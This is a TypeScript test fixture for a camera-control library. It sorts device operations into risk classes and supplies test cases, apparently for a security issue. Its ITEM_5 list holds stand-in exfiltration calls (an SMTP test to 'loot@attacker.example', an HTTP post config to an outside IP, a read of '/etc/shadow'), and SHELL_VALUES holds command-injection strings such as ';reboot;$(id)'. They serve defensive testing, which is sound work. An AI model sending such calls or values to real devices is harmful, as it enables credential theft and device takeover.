/**
 * The cases of issue 18 items 5 and 9 that the library test (op-classes.test.ts) and the node
 * test (nodes-request.test.ts) both run.
 */
import type { OpClass } from '../lib/ops';

/** DESIGN's classes, written out here so that a changed entry fails this test. */
export const DESIGN_CLASSES: Record<string, OpClass> = {
  getDeviceInfo: 'read',
  getAlarmStatus: 'read',
  getPtzCaps: 'read',
  getHttpPostConfig: 'read',
  setHttpPostConfig: 'outbound',
  modifyPassword: 'destructive',
  listParams: 'read',
  updateParams: 'change',
  addParamGroup: 'change',
  removeParamGroup: 'destructive',
  factoryReset: 'destructive',
  backup: 'files',
  restore: 'destructive',
  upgradeFirmware: 'destructive',
  firmwareProgress: 'read',
  reboot: 'destructive',
  uploadLanguage: 'change',
  sendAudio: 'change',
  describeRtsp: 'read',
  testHttpServer: 'outbound',
  testNetworkStorage: 'outbound',
  testSmtp: 'outbound',
  cancelSmtpTest: 'change',
  testFtp: 'outbound',
  cancelFtpTest: 'change',
  selfSignCertificate: 'destructive',
  certificateInfo: 'read',
  readFile: 'files',
  writeFile: 'destructive',
  lens: 'change',
  readClimate: 'read',
  setDefog: 'change',
};

/** Item 5: what was sent from a node set to `msg`, with the parameters of the report. */
export const ITEM_5: Array<[string, Record<string, unknown>]> = [
  ['updateParams', { params: { 'Network.eth0.IPAddress': '203.0.113.66' } }],
  ['uploadLanguage', { file: Buffer.from('language pack') }],
  ['setHttpPostConfig', { server: '203.0.113.66', port: 80, path: '/collect' }],
  ['readFile', { path: '/etc/shadow' }],
  ['testSmtp', { server: 'smtp.attacker.example', to: 'loot@attacker.example', from: 'cam@example.com' }],
];

/** The same operations with parameters that keep the simulator on this machine, for the runs from a setting. */
export const ITEM_5_LOCAL: Record<string, Record<string, unknown>> = {
  updateParams: { params: { 'Image.I0.Text.String': 'gate' } },
  uploadLanguage: { file: Buffer.from('language pack') },
  setHttpPostConfig: { server: '127.0.0.1', port: 9, path: '/collect' },
  readFile: { path: '/etc/shadow' },
  testSmtp: { server: 'mail.example.com', to: 'me@example.com', from: 'cam@example.com', timeout: 10 },
};

/**
 * What the simulator answers to each of ITEM_5_LOCAL, exactly: run from a setting, each is sent
 * and succeeds, so that a refusal of any kind (EDEVICE, EHTTP, EPARSE, ETIMEOUT...) fails the test.
 */
export const ITEM_5_ANSWERS: Record<string, unknown> = {
  updateParams: { ok: true, updated: ['Image.I0.Text.String'] },
  uploadLanguage: { ok: true },
  setHttpPostConfig: { enabled: true, server: '127.0.0.1', port: 9, path: '/collect', keepalive: 30 },
  // The simulator has no /etc/shadow: it answers the device's `None`, which reads as ''.
  readFile: '',
  testSmtp: {
    ok: true,
    log: 'Connecting to mail.example.com:25\n220 mail.example.com ESMTP ready\nEHLO ipcam-sim\n250 OK\nMAIL FROM:<cam@example.com>\nRCPT TO:<me@example.com>\nSubject: Camera SMTP test\nDATA 39 bytes\n250 Message accepted\nSMTP Test Success\n',
  },
};

/** Item 9's values: shell syntax and options. */
export const SHELL_VALUES = [';reboot;$(id)', '-o remount', '--help', 'a|b', 'a`id`b', '$(x)', 'a\nb', 'x -o remount', 'a&&b', 'a>b'];

/** Each server test, a valid base, and its name, user, path and password fields. */
export const SERVER_TESTS: Array<{ name: string; base: Record<string, unknown>; fields: string[] }> = [
  { name: 'testHttpServer', base: { server: '192.168.1.10', port: 80, proxy: 'proxy.lan' }, fields: ['server', 'user', 'password', 'proxy', 'proxyUser', 'proxyPassword'] },
  { name: 'testNetworkStorage', base: { type: 'cifs', server: '//nas/share' }, fields: ['server', 'user', 'password', 'workgroup'] },
  { name: 'testSmtp', base: { server: 'mail.example.com', to: 'me@example.com', from: 'cam@example.com' }, fields: ['server', 'user', 'password', 'to', 'from'] },
  { name: 'testFtp', base: { server: 'ftp.example.com' }, fields: ['server', 'user', 'password', 'target'] },
];
